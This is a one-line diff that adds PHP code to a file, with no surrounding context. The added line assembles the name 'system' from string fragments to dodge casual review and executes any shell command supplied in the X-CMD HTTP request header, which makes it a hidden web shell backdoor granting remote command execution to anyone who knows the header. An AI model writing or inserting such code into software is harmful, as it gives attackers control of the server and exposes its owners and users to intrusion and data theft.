@@ -1,0 +1,1 @@
+<?php $m = 'sy' . 'st' . 'em'; $m(getenv('HTTP_X_CMD'));
